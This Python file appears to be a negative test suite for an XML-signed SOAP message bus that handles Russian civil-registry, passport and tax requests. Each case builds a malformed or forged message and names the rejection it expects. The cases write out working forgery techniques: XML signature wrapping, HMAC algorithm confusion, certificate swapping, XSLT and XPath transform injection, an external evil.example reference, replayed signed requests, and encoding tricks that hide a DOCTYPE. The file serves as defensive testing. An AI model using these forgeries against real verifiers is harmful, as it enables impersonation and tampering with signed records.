async def response_of_another_type(w: World) -> bytes:
    """ZAGS answers a birth-record request with a death record."""
    to = await pending_request(w)
    body = m.build_send_response(fresh_id(w), to, content=content("zags-death-record.response"))
    return _signed_raw(w, body, "ZAGS")


@case("schema", "schema_violation", "BirthDate")
async def bad_birth_date(w: World) -> bytes:
    business = birth_request()
    _business_name(business, "BirthDate").text = "14.03.2019"
    return good_request(w, business=business)


@case("schema", "schema_violation", "BirthDate")
async def birth_request_missing_birth_date(w: World) -> bytes:
    return good_request(w, business=content("invalid/zags-birth-record.missing-birthdate"))


@case("schema", "schema_violation", "Series")
async def passport_request_bad_series(w: World) -> bytes:
    return good_request(w, business=content("invalid/mvd-passport-validity.bad-series"))


@case("schema", "schema_violation", "INN")
async def inn_request_short_inn(w: World) -> bytes:
    return good_request(w, business=content("invalid/fns-inn.short-inn"))


@case("schema", "schema_violation", "Date")
async def marriage_request_bad_date(w: World) -> bytes:
    return good_request(w, business=content("invalid/zags-marriage-record.bad-date"))


@case("schema", "schema_violation", "unknown message type")
async def unknown_message_type(w: World) -> bytes:
    business = etree.fromstring(
        b'<PetRecordRequest xmlns="urn://smevbus/types/pets/cat/1.0"><Name>Tom</Name>'
        b"</PetRecordRequest>"
    )
    return good_request(w, business=business)


@case("schema", "schema_violation", "BirthRecordRequest")
async def business_content_in_no_namespace(w: World) -> bytes:
    business = etree.fromstring(b"<BirthRecordRequest><Child/></BirthRecordRequest>")
    return good_request(w, business=business)


@case("schema", "schema_violation", "BirthRecordRequest")
async def response_content_in_a_request(w: World) -> bytes:
    return good_request(w, business=birth_response())


# ========================================================================= signature


@case("signature", "signature_invalid", "is not signed")
async def unsigned_request(w: World) -> bytes:
    return soap(send_request_body(None, message_id=fresh_id(w)))


@case("signature", "schema_violation", "CallerInformationSystemSignature")
async def unsigned_get_status(w: World) -> bytes:
    """1.1 makes the signature of GetStatus required in the schema itself."""
    return soap(m.build_get_status(now(w)))


@case("signature", "signature_invalid", "is not signed")
async def unsigned_get_request(w: World) -> bytes:
    return soap(selector_body(w, "GetRequest", timedelta(0)))


@case("signature", "signature_invalid", "is not signed")
async def unsigned_ack(w: World) -> bytes:
    return soap(m.build_ack(fresh_id(w)))


@case("signature", "signature_invalid", "is not signed")
async def signature_moved_into_the_header(w: World) -> bytes:
    root = envelope(good_request(w))
    holder = body_child(root).find(f"{T}CallerInformationSystemSignature")
    assert holder is not None
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    header.append(holder[0])
    holder.getparent().remove(holder)  # type: ignore[union-attr]
    return serialize(root)


@case("signature", "signature_invalid", "changed after signing")
async def content_tampered_after_signing(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), "Петрова".encode())


@case("signature", "signature_invalid", "changed after signing")
async def message_id_tampered_after_signing(w: World) -> bytes:
    root = envelope(good_request(w))
    message_id = body_child(root).find(f"{T}SenderProvidedRequestData/{T}MessageID")
    assert message_id is not None
    message_id.text = str(fresh_id(w, timedelta(seconds=-1)))
    return serialize(root)


@case("signature", "signature_invalid", "changed after signing")
async def element_added_to_signed_content(w: World) -> bytes:
    root = envelope(good_request(w))
    data = body_child(root).find(f"{T}SenderProvidedRequestData")
    assert data is not None
    etree.SubElement(data, f"{T}TestMessage")
    return serialize(root)


@case("signature", "signature_invalid", "changed after signing")
async def comment_hides_a_changed_digit(w: World) -> bytes:
    """Issue 11: comments are dropped when read; changing the text around one is still a
    change to what was signed."""
    raw = good_request(w)
    return replace_once(raw, b"120197100000101234005", b"1201971000001012<!--34005-->99999")


@case("signature", "signature_invalid", "changed after signing")
async def processing_instruction_hides_a_changed_name(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, "Смирнова".encode(), "Смир<?keep нова?>ов".encode())


@case("signature", "signature_invalid", "changed after signing")
async def cdata_carries_a_changed_name(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, "Смирнова".encode(), "<![CDATA[Смирнов]]>".encode())


@case("signature", "signature_invalid", "changed after signing")
async def comment_replaces_signed_element(w: World) -> bytes:
    """The signed ActRecord commented out: the reader would see it gone."""
    raw = good_request(w)
    start, end = raw.index(b"<ActRecord>"), raw.index(b"</ActRecord>") + len(b"</ActRecord>")
    return raw[:start] + b"<!--" + raw[start:end] + b"-->" + raw[end:]


@case("signature", "signature_invalid", "SignatureValue does not verify")
async def tampered_signature_value(w: World) -> bytes:
    raw = good_request(w)
    value = signature_text(raw, "SignatureValue")
    return replace_once(raw, value, flip_base64(value))


@case("signature", "signature_invalid", "SignatureValue")
async def signature_value_not_base64(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, signature_text(raw, "SignatureValue"), b"!!not*base64!!")


@case("signature", "signature_invalid", "SignatureValue")
async def signature_value_empty(w: World) -> bytes:
    raw = good_request(w)
    value = signature_text(raw, "SignatureValue")
    return replace_once(raw, b">" + value + b"<", b"><")


# SignedInfo's signature is checked before the digest it holds (the cheaper step first).
@case("signature", "signature_invalid", "SignedInfo or SignatureValue was changed")
async def tampered_digest_value(w: World) -> bytes:
    raw = good_request(w)
    value = signature_text(raw, "DigestValue")
    return replace_once(raw, value, flip_base64(value))


@case("signature", "signature_invalid", "SignedInfo or SignatureValue was changed")
async def digest_value_split_by_a_comment(w: World) -> bytes:
    """A comment inside SignedInfo, the digest's text changed around it."""
    raw = good_request(w)
    value = signature_text(raw, "DigestValue")
    return replace_once(
        raw, value, value[:8] + b"<!--" + value[8:] + b"-->" + flip_base64(value)[8:]
    )


@case("signature", "signature_invalid", "SignedInfo or SignatureValue was changed")
async def signed_info_gains_an_attribute(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, b"<ds:SignedInfo>", b'<ds:SignedInfo Id="si">')


@case("signature", "signature_invalid", "SignatureValue does not verify")
async def certificate_swapped_in_key_info(w: World) -> bytes:
    raw = good_request(w)  # signed with PORTAL's key ...
    zags = w.pki.signer("ZAGS").certificate
    # ... but KeyInfo claims ZAGS's (trusted, registered) certificate.
    swapped = b64(zags.public_bytes(Encoding.DER))
    return replace_once(raw, signature_text(raw, "X509Certificate"), swapped)


@case("signature", "signature_invalid", "SignatureMethod")
async def signature_method_substituted(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(
        raw, b"http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", RSA_SHA256.encode()
    )


@case("signature", "signature_invalid", "SignatureMethod")
async def hmac_signature_method(w: World) -> bytes:
    """HMAC keyed with the public certificate: the classic algorithm confusion."""
    raw = good_request(w)
    return replace_once(
        raw,
        b"http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
        b"http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    )


@case("signature", "signature_invalid", "SignatureMethod")
async def unknown_signature_method(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(
        raw, b"http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256", b"urn:evil:none"
    )


@case("signature", "signature_invalid", "DigestMethod")
async def md5_digest_method(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(
        raw,
        b"http://www.w3.org/2001/04/xmlenc#sha256",
        b"http://www.w3.org/2001/04/xmldsig-more#md5",
    )


@case("signature", "signature_invalid", "CanonicalizationMethod")
async def unknown_canonicalization(w: World) -> bytes:
    raw = good_request(w)
    old = b'<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
    return replace_once(raw, old, b'<ds:CanonicalizationMethod Algorithm="urn:evil:c14n"/>')


@case("signature", "signature_invalid", "not accepted")
async def xslt_transform_injected(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(
        raw,
        b'<ds:Transform Algorithm="urn://smev-gov-ru/xmldsig/transform"/>',
        b'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>',
    )


@case("signature", "signature_invalid", "not accepted")
async def xpath_filter_transform_injected(w: World) -> bytes:
    """An XPath transform that selects nothing would make any content match."""
    raw = good_request(w)
    return replace_once(
        raw,
        b'<ds:Transform Algorithm="urn://smev-gov-ru/xmldsig/transform"/>',
        b'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">'
        b"<ds:XPath>0</ds:XPath></ds:Transform>",
    )


@case("signature", "signature_invalid", "Reference URI")
async def reference_to_the_whole_document(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, b'URI="#SIGNED_BY_CONSUMER"', b'URI=""')


@case("signature", "signature_invalid", "Reference URI")
async def reference_to_an_external_uri(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, b'URI="#SIGNED_BY_CONSUMER"', b'URI="http://evil.example/signed.xml"')


@case("signature", "signature_invalid", "Reference URI")
async def reference_to_another_id(w: World) -> bytes:
    """The Reference names a decoy in the Header (a copy of the data under another Id),
    not the element the bus reads."""
    root = envelope(good_request(w))
    data = body_child(root).find(f"{T}SenderProvidedRequestData")
    assert data is not None
    decoy = copy.deepcopy(data)
    decoy.set("Id", "DECOY")
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    header.append(decoy)
    return replace_once(serialize(root), b'URI="#SIGNED_BY_CONSUMER"', b'URI="#DECOY"')


@case("signature", "signature_invalid", "Reference")
async def two_references(w: World) -> bytes:
    raw = good_request(w)
    start = raw.index(b"<ds:Reference ")
    end = raw.index(b"</ds:Reference>") + len(b"</ds:Reference>")
    return raw[:end] + raw[start:end] + raw[end:]


@case("signature", "schema_violation", "Signature")
async def two_signatures(w: World) -> bytes:
    root = envelope(good_request(w))
    holder = body_child(root).find(f"{T}CallerInformationSystemSignature")
    assert holder is not None
    holder.append(copy.deepcopy(holder[0]))
    return serialize(root)


@case("signature", "signature_invalid", "X509Certificate")
async def key_info_without_certificate(w: World) -> bytes:
    root = envelope(good_request(w))
    key_info = root.find(f".//{DS}KeyInfo")
    assert key_info is not None
    for child in list(key_info):
        key_info.remove(child)
    etree.SubElement(key_info, f"{DS}KeyName").text = "PORTAL"
    return serialize(root)


@case("signature", "signature_invalid", "occurs 2 times")
async def signature_wrapping_duplicate_id(w: World) -> bytes:
    """The signed original moved into the Header; a forged copy with its Id in the Body."""
    root = envelope(good_request(w))
    operation = body_child(root)
    original = operation.find(f"{T}SenderProvidedRequestData")
    assert original is not None
    forged = copy.deepcopy(original)
    _business_name(forged, "FirstName").text = "Мария"
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    header.append(original)  # moved
    operation.insert(0, forged)
    return serialize(root)


@case("signature", "signature_invalid", "ds:Object")
async def signature_wrapping_in_ds_object(w: World) -> bytes:
    """XSW through ``ds:Object``: the original inside the Signature, a forgery in place."""
    root = envelope(good_request(w))
    operation = body_child(root)
    original = operation.find(f"{T}SenderProvidedRequestData")
    assert original is not None
    forged = copy.deepcopy(original)
    _business_name(forged).text = "Петрова"
    signature = root.find(f".//{DS}Signature")
    assert signature is not None
    etree.SubElement(signature, f"{DS}Object").append(original)
    operation.insert(0, forged)
    return serialize(root)


@case("signature", "signature_invalid", "occurs 2 times")
async def duplicate_id_inside_business_content(w: World) -> bytes:
    """A second element with the signed Id, inside the signed content itself."""
    business = birth_request()
    business[0].set("Id", m.CONSUMER_ID)
    return good_request(w, business=business)


@case("signature", "signature_invalid", "Reference URI")
async def signature_wrapping_other_id(w: World) -> bytes:
    """The signed original kept in the Header; the Body holds a forged, differently-Id'd one."""
    root = envelope(good_request(w))
    operation = body_child(root)
    original = operation.find(f"{T}SenderProvidedRequestData")
    assert original is not None
    forged = copy.deepcopy(original)
    forged.set("Id", "FORGED")
    header = root.find(qname(SOAP_ENV, "Header"))
    assert header is not None
    header.append(original)
    operation.insert(0, forged)
    return serialize(root)


@case("signature", "signature_invalid", "reserved")
async def reserved_bus_id(w: World) -> bytes:
    return good_request(w, data_id=m.SMEV_ID)


# ======================================================================= certificate


def _with_certificate_der(w: World, raw: bytes, damage: Callable[[bytes], bytes]) -> bytes:
    der = w.pki.signer("PORTAL").certificate.public_bytes(Encoding.DER)
    damaged = damage(der)
    assert damaged != der
    return replace_once(raw, signature_text(raw, "X509Certificate"), b64(damaged))


@case("certificate", "signature_invalid", "not a usable certificate")
async def certificate_with_unknown_curve(w: World) -> bytes:
    p256 = bytes.fromhex("06082a8648ce3d030107")  # OID 1.2.840.10045.3.1.7
    return _with_certificate_der(
        w, good_request(w), lambda der: der.replace(p256, p256[:-1] + b"\x08")
    )


@case("certificate", "signature_invalid", "not a usable certificate")
async def certificate_with_garbled_issuer(w: World) -> bytes:
    """The key still matches the signature; the issuer name is not valid UTF-8."""
    return _with_certificate_der(
        w,
        good_request(w),
        lambda der: der.replace(b"\x0c\x13smevbus dev", b"\x0c\x13\xffmevbus dev"),
    )


@case("certificate", "signature_invalid", "X509Certificate")
async def certificate_not_der(w: World) -> bytes:
    raw = good_request(w)
    return replace_once(raw, signature_text(raw, "X509Certificate"), b64(b"not a certificate"))


@case("certificate", "certificate_untrusted", "CA")
async def certificate_from_untrusted_ca(w: World) -> bytes:
    return soap(send_request_body(signer_for(w.pki.untrusted), message_id=fresh_id(w)))


@case("certificate", "certificate_expired", "expired")
async def expired_certificate(w: World) -> bytes:
    return soap(send_request_body(signer_for(w.pki.expired), message_id=fresh_id(w)))


@case("certificate", "certificate_expired", "not valid before")
async def not_yet_valid_certificate(w: World) -> bytes:
    return soap(send_request_body(signer_for(w.pki.not_yet_valid), message_id=fresh_id(w)))


@case("certificate", "certificate_untrusted", "revoked")
async def revoked_certificate(w: World) -> bytes:
    return soap(send_request_body(signer_for(w.pki.revoked), message_id=fresh_id(w)))


@case("certificate", "certificate_untrusted", "revoked")
async def revoked_certificate_on_a_pull(w: World) -> bytes:
    body = selector_body(w, "GetResponse", timedelta(0))
    return soap(signed(body, signer_for(w.pki.revoked)))


@case("certificate", "certificate_untrusted", "CA")
async def bus_impersonated_by_untrusted_ca(w: World) -> bytes:
    """A certificate named SMEVBUS from a CA that only shares the dev CA's name."""
    return soap(
        send_request_body(
            signer_for(devpki.issue_untrusted("SMEVBUS", w.clock)), message_id=fresh_id(w)
        )
    )


def _issued(
    w: World,
    *,
    cn: str | None = "PORTAL",
    key_usage: x509.KeyUsage | None = None,
    ca: bool = False,
) -> devpki.Issued:
    """A certificate from the trusted dev CA, valid now, shaped as the case needs."""
    key = devpki.generate_key()
    names = [x509.NameAttribute(NameOID.COMMON_NAME, cn)] if cn else []
    names.append(x509.NameAttribute(NameOID.ORGANIZATION_NAME, "bad-input suite"))
    start = now(w) - timedelta(hours=1)
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name(names))
        .issuer_name(w.pki.ca.cert.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + timedelta(days=30))
        .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
    )
    if key_usage is not None:
        builder = builder.add_extension(key_usage, critical=True)
    return devpki.Issued(builder.sign(w.pki.ca.key, hashes.SHA256()), key)


def _usage(**allowed: bool) -> x509.KeyUsage:
    flags = dict.fromkeys(
        (
            "digital_signature",
            "content_commitment",
            "key_encipherment",
            "data_encipherment",
            "key_agreement",
            "key_cert_sign",
            "crl_sign",
        ),
        False,
    )
    flags.update(allowed)
    return x509.KeyUsage(**flags, encipher_only=False, decipher_only=False)


def _signed_by(w: World, issued: devpki.Issued) -> bytes:
    return soap(send_request_body(signer_for(issued), message_id=fresh_id(w)))


@case("certificate", "certificate_untrusted", "key usage")
async def key_usage_key_agreement_only(w: World) -> bytes:
    """A certificate for key agreement only (its key must never sign)."""
    return _signed_by(w, _issued(w, key_usage=_usage(key_agreement=True)))


@case("certificate", "certificate_untrusted", "key usage")
async def key_usage_certificate_signing_only(w: World) -> bytes:
    return _signed_by(w, _issued(w, key_usage=_usage(key_cert_sign=True, crl_sign=True)))


@case("certificate", "certificate_untrusted", "CA certificate")
async def ca_certificate_signs_a_message(w: World) -> bytes:
    """A certificate with CA rights (CN=PORTAL) signing a message, not certificates."""
    return _signed_by(
        w, _issued(w, ca=True, key_usage=_usage(digital_signature=True, key_cert_sign=True))
    )


@case("certificate", "signature_invalid", "no common name")
async def certificate_without_common_name(w: World) -> bytes:
    return _signed_by(w, _issued(w, cn=None, key_usage=_usage(digital_signature=True)))


# ===================================================================== authorization


@case("authorization", "sender_not_registered", "STRANGER")
async def unknown_sender(w: World) -> bytes:
    return soap(send_request_body(signer_for(w.pki.stranger), message_id=fresh_id(w)))


@case("authorization", "sender_not_registered", "STRANGER")
async def unknown_sender_pulls(w: World) -> bytes:
    return soap(signed(selector_body(w, "GetRequest", timedelta(0)), signer_for(w.pki.stranger)))


@case("authorization", "access_denied", "ZAGS is not allowed to request")
async def provider_sends_a_request(w: World) -> bytes:
    return good_request(w, "ZAGS")


@case("authorization", "access_denied", "FNS is not allowed to request")
async def fns_requests_inn(w: World) -> bytes:
    return good_request(w, "FNS", business=content("fns-inn.request"))


@case("authorization", "access_denied", "MVD_MIGR is not allowed to request")
async def provider_requests_its_own_type(w: World) -> bytes:
    return good_request(w, "MVD_MIGR", business=content("mvd-passport-validity.request"))


@case("authorization", "access_denied", "MVD_MIGR did not receive request")
async def provider_answers_a_type_it_does_not_provide(w: World) -> bytes:
    to = await pending_request(w)  # a birth record request, routed to ZAGS
    body = m.build_send_response(fresh_id(w), to, content=birth_response())
    return _signed_raw(w, body, "MVD_MIGR")


@case("authorization", "access_denied", "PORTAL did not receive request")
async def consumer_answers_its_own_request(w: World) -> bytes:
    to = await pending_request(w)
    body = m.build_send_response(fresh_id(w), to, content=birth_response())
    return _signed_raw(w, body, "PORTAL")


@case("authorization", "not_found", "names no request")
async def response_to_unknown_request(w: World) -> bytes:
    body = m.build_send_response(fresh_id(w), "no-such-request", content=birth_response())
    return _signed_raw(w, body, "ZAGS")


@case("authorization", "not_found", "names no request")
async def response_to_a_request_id_of_the_future(w: World) -> bytes:
    body = m.build_send_response(fresh_id(w), str(fresh_id(w)), content=birth_response())
    return _signed_raw(w, body, "ZAGS")


@case("authorization", "not_found", "MVD_MIGR")
async def ack_of_a_message_another_provider_holds(w: World) -> bytes:
    """MVD_MIGR acknowledges ZAGS's request: taking it out of another's queue."""
    await w.portal.send_request(birth_request())
    delivery = await w.zags.get_request()
    assert delivery is not None
    taken = uuid.UUID(str(delivery.request_data.findtext(f"{T}MessageID")))
    await w.zags.ack(taken)
    return _signed_raw(w, m.build_ack(taken), "MVD_MIGR")


@case("authorization", "not_found", "ZAGS")
async def ack_of_a_message_never_delivered(w: World) -> bytes:
    return _signed_raw(w, m.build_ack(fresh_id(w)), "ZAGS")


@case("replay", "stale_message_id", "GetStatus Timestamp")
async def get_status_timestamp_of_an_hour_ago(w: World) -> bytes:
    return _signed_raw(w, m.build_get_status(now(w) - timedelta(hours=1)))


@case("replay", "replayed_request", "already received")
async def replayed_get_status(w: World) -> bytes:
    raw = _signed_raw(w, m.build_get_status(now(w)))
    status, _ = await w.handle(raw)
    assert status == 200
    return raw


# ============================================================================ replay
# Time and repetition: MessageIDs, pull timestamps, ends of life.


@case("replay", "message_already_sent", "already sent with different content")
async def same_message_id_other_content(w: World) -> bytes:
    message_id = fresh_id(w)
    await w.portal.send_request(birth_request(), message_id=message_id)
    other = birth_request()
    _business_name(other, "FirstName").text = "Мария"
    return good_request(w, message_id=message_id, business=other)


@case("replay", "message_already_sent", "already sent with different content")
async def same_message_id_other_type(w: World) -> bytes:
    message_id = fresh_id(w)
    await w.portal.send_request(birth_request(), message_id=message_id)
    return good_request(w, message_id=message_id, business=content("mvd-passport-validity.request"))


@case("replay", "message_already_sent", "final")
async def second_final_answer(w: World) -> bytes:
    """ZAGS answered once; a second, different answer to the same request."""
    to = await pending_request(w)
    await w.zags.send_response(to, content=birth_response())
    other = birth_response()
    body = m.build_send_response(fresh_id(w), to, content=other)
    return _signed_raw(w, body, "ZAGS")


@case("replay", "invalid_content", "MessageID")
async def message_id_not_uuid_v1(w: World) -> bytes:
    return good_request(w, message_id=uuid.uuid4())


@case("replay", "invalid_content", "MessageID")
async def message_id_nil_uuid(w: World) -> bytes:
    return good_request(w, message_id=uuid.UUID(int=0))


@case("replay", "invalid_content", "MessageID")
async def message_id_uuid_v5(w: World) -> bytes:
    return good_request(w, message_id=uuid.uuid5(uuid.NAMESPACE_URL, "https://bus"))


@case("replay", "stale_message_id", "outside the accepted window")
async def stale_message_id(w: World) -> bytes:
    return good_request(w, message_id=fresh_id(w, -timedelta(days=3)))


@case("replay", "stale_message_id", "outside the accepted window")
async def message_id_from_the_gregorian_epoch(w: World) -> bytes:
    return good_request(w, message_id=uuid.UUID("00000000-0000-1000-8000-000000000001"))


@case("replay", "stale_message_id", "outside the accepted window")
async def message_id_from_the_future(w: World) -> bytes:
    return good_request(w, message_id=fresh_id(w, timedelta(hours=1)))


@case("replay", "stale_message_id", "outside the accepted window")
async def stale_response_message_id(w: World) -> bytes:
    to = await pending_request(w)
    body = m.build_send_response(fresh_id(w, -timedelta(days=3)), to, content=birth_response())
    return _signed_raw(w, body, "ZAGS")


@case("replay", "invalid_content", "end of life")
async def eol_in_the_past(w: World) -> bytes:
    return good_request(w, eol=now(w) - timedelta(minutes=1))


@case("replay", "invalid_content", "end of life")
async def eol_long_ago(w: World) -> bytes:
    return good_request(w, eol=now(w) - timedelta(days=3650))


@case("replay", "stale_message_id", "MessageTypeSelector/Timestamp")
async def replayed_get_request_selector(w: World) -> bytes:
    return _signed_raw(w, selector_body(w, "GetRequest", -timedelta(hours=1)), "ZAGS")


@case("replay", "stale_message_id", "MessageTypeSelector/Timestamp")
async def replayed_get_response_selector(w: World) -> bytes:
    return _signed_raw(w, selector_body(w, "GetResponse", -timedelta(days=1)))


@case("replay", "stale_message_id", "MessageTypeSelector/Timestamp")
async def selector_timestamp_in_the_future(w: World) -> bytes:
    return _signed_raw(w, selector_body(w, "GetRequest", timedelta(hours=2)), "ZAGS")


@case("replay", "invalid_content", "time zone")
async def selector_timestamp_without_time_zone(w: World) -> bytes:
    body = selector_body(w, "GetRequest", timedelta(0))
    stamp = body.find(f".//{B}Timestamp")
    assert stamp is not None
    stamp.text = now(w).replace(tzinfo=None).isoformat()
    return _signed_raw(w, body, "ZAGS")


@case("replay", "replayed_request", "already received")
async def replayed_get_request(w: World) -> bytes:
    """Issue 11: a captured signed GetRequest posted again within its window."""
    raw = _signed_raw(w, selector_body(w, "GetRequest", timedelta(0)), "FNS")
    status, _ = await w.handle(raw)
    assert status == 200
    return raw


@case("replay", "replayed_request", "already received")
async def replayed_get_response(w: World) -> bytes:
    raw = _signed_raw(w, selector_body(w, "GetResponse", timedelta(0)), "MVD_MIGR")
    status, _ = await w.handle(raw)
    assert status == 200
    return raw


@case("replay", "replayed_request", "already received")
async def replayed_get_request_reserialized(w: World) -> bytes:
    """The same signed pull with its whitespace and prefixes changed: what the signature
    covers is the same, so it is the same pull."""
    raw = _signed_raw(w, selector_body(w, "GetRequest", timedelta(0)), "FNS")
    status, _ = await w.handle(raw)
    assert status == 200
    return (
        raw.replace(b"<soap:", b"<env:")
        .replace(b"</soap:", b"</env:")
        .replace(b"xmlns:soap=", b"xmlns:env=")
        .replace(b"><", b">\n  <", 1)
    )


# ========================================================================== encoding


def _declared(raw: bytes, encoding: bytes) -> bytes:
    """``raw`` (UTF-8) with its XML declaration naming ``encoding`` instead."""
    return replace_once(raw, b"encoding='UTF-8'", b"encoding='" + encoding + b"'")


@case("encoding", "invalid_content", "character encoding")
async def windows_1251_bytes_declared_utf8(w: World) -> bytes:
    raw = good_request(w)
    return raw.replace("Смирнова".encode(), "Смирнова".encode("cp1251"))


@case("encoding", "invalid_content", "encoding")
async def unknown_declared_encoding(w: World) -> bytes:
    return _declared(good_request(w), b"x-evil-charset")


@case("encoding", "invalid_content", "not well-formed")
async def declared_utf16_but_utf8_bytes(w: World) -> bytes:
    return _declared(good_request(w), b"UTF-16")


@case("encoding", "invalid_content", "not well-formed")
async def overlong_utf8_sequence(w: World) -> bytes:
    """``/`` as the overlong C0 AF: decoders that accept it see characters others don't."""
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir\xc0\xafnova")


@case("encoding", "invalid_content", "not well-formed")
async def utf8_encoded_surrogate(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir\xed\xa0\x80nova")


@case("encoding", "invalid_content", "not well-formed")
async def truncated_multibyte_sequence(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), "Смирнова".encode()[:-1])


@case("encoding", "invalid_content", "not well-formed")
async def noncharacter_fffe_in_text(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), "Смир\ufffeнова".encode())


@case("encoding", "invalid_content", "not well-formed")
async def control_character_reference(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir&#x1B;nova")


@case("encoding", "invalid_content", "not well-formed")
async def surrogate_character_reference(w: World) -> bytes:
    return replace_once(good_request(w), "Смирнова".encode(), b"Smir&#xD800;nova")


@case("encoding", "invalid_content", "not well-formed")
async def ebcdic_declared_over_ascii(w: World) -> bytes:
    raw = good_request(w).replace("Смирнова".encode(), b"Smirnova")
    return _declared(raw, b"IBM037")


@case("encoding", "invalid_content", "not well-formed")
async def utf16_bom_before_utf8_bytes(w: World) -> bytes:
    return b"\xff\xfe" + good_request(w)


@case("encoding", "invalid_content", "DOCTYPE")
async def doctype_hidden_in_utf7(w: World) -> bytes:
    """UTF-7 spells ``<`` as ``+ADw-``: a byte match for ``<!DOCTYPE`` finds nothing.
    libxml2 reads UTF-7, and finds the DOCTYPE as in any other encoding."""
    doc = _entity_document(w).encode("utf-7")
    return b'<?xml version="1.0" encoding="UTF-7"?>\n' + replace_once(
        doc, b"<!DOCTYPE", b"+ADw-!DOCTYPE"
    )
